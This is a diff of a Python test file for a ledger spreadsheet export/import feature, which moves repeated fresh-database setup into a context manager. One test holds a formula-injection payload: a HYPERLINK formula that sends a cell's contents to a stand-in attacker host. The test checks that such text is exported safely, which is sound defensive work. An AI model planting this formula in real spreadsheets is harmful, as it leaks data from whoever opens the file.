@@ -9,11 +9,14 @@ from __future__ import annotations
 
 import io
 import shutil
+from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
 from sqlalchemy import func, select
+from sqlalchemy.orm import sessionmaker
 
 from engine.access import Actor
 from engine.errors import NotAllowed
@@ -139,14 +142,7 @@ def test_imported_into_the_same_database_it_changes_nothing(world):
 
 def test_imported_into_a_fresh_database_it_re_creates_the_cases(world, sqlite_template, tmp_path):
     proposals = act(world, "admin", ledger_export.export, "proposals").content
-    path = tmp_path / "fresh.db"
-    shutil.copy(sqlite_template, path)
-    engine = make_engine(f"sqlite:///{path}")
-    try:
-        fresh = make_session_factory(engine)
-        with fresh.begin() as s:
-            people.ensure_departments(s)
-        build(fresh)
+    with fresh_database(sqlite_template, tmp_path) as fresh:
         done = act(fresh, "admin", ledger.apply, "proposals", "台账.xlsx", proposals)
         assert [(o.title, o.closed, o.waiting_at, o.existing) for o in done.outcomes] == [
             ("关于修缮村道的建议", True, [], False),
@@ -160,6 +156,20 @@ def test_imported_into_a_fresh_database_it_re_creates_the_cases(world, sqlite_te
         assert sheet_rows(act(fresh, "admin", ledger_export.export, "proposals").content) == sheet_rows(proposals)
         again = act(fresh, "admin", ledger.plan, "proposals", "台账.xlsx", proposals)
         assert [o.existing for o in again.outcomes] == [True] * 5
+
+
+@contextmanager
+def fresh_database(sqlite_template, tmp_path) -> Iterator[sessionmaker]:
+    """An empty migrated database with the departments and the people of ``build``."""
+    path = tmp_path / "fresh.db"
+    shutil.copy(sqlite_template, path)
+    engine = make_engine(f"sqlite:///{path}")
+    try:
+        fresh = make_session_factory(engine)
+        with fresh.begin() as s:
+            people.ensure_departments(s)
+        build(fresh)
+        yield fresh
     finally:
         engine.dispose()
 
@@ -222,16 +232,7 @@ def test_a_text_that_starts_a_formula_is_exported_as_text_and_imported_back_the_
     planned = act(world, "admin", ledger.plan, "proposals", "台账.xlsx", proposals)
     assert planned.problems == [] and [o.existing for o in planned.outcomes] == [True] * 6
     # into a fresh one: re-created with the same texts, exported again the same
-    path = tmp_path / "fresh.db"
-    shutil.copy(sqlite_template, path)
-    engine = make_engine(f"sqlite:///{path}")
-    try:
-        fresh = make_session_factory(engine)
-        with fresh.begin() as s:
-            people.ensure_departments(s)
-        build(fresh)
+    with fresh_database(sqlite_template, tmp_path) as fresh:
         done = act(fresh, "admin", ledger.apply, "proposals", "台账.xlsx", proposals)
         assert done.outcomes[-1].title == '=HYPERLINK("http://attacker.example/?leak="&A2,"详情")'
         assert sheet_rows(act(fresh, "admin", ledger_export.export, "proposals").content) == sheet_rows(proposals)
-    finally:
-        engine.dispose()
